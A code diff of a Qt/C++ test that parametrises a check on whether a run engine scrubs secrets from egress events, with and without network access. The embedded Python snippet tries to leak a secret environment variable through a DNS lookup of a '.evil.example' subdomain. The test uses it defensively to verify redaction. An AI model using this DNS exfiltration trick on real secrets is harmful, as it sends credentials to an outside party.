@@ -276,10 +276,20 @@ private Q_SLOTS:
                  QByteArray("[secret LINES]\r\n[secret LINES] [secret KEY]\r\n"));
     }
 
+    void eventsAndAttemptsAreScrubbed_data()
+    {
+        QTest::addColumn<QStringList>("allow");
+        QTest::addColumn<QByteArray>("begin");
+        QTest::newRow("some network") << QStringList{u"example.org"_s} << QByteArray("hostpart");
+        QTest::newRow("no network") << QStringList() << QByteArray("HostPart");
+    }
+
     void eventsAndAttemptsAreScrubbed()
     {
+        QFETCH(QStringList, allow);
+        QFETCH(QByteArray, begin);
         open();
-        const QByteArray name = "hostpart" + QByteArray::number(QRandomGenerator::global()->generate(), 36);
+        const QByteArray name = begin + QByteArray::number(QRandomGenerator::global()->generate(), 36);
         add(u"KEY"_s, SecretValue::copyOf(name));
         RunRequest wanted =
             request("python",
@@ -287,7 +297,7 @@ private Q_SLOTS:
                     "try: socket.getaddrinfo(os.environ['KEY'] + '.evil.example', 80)\nexcept OSError: pass\n"
                     "print('tried')",
                     {{u"KEY"_s, {}, false}});
-        wanted.policy.allow = {u"example.org"_s};
+        wanted.policy.allow = allow;
         const auto result = m_engine->start(std::move(wanted))->wait();
         QCOMPARE(result->out.kept(), QByteArray("tried\n"));
         QVERIFY(!result->egress.isEmpty());
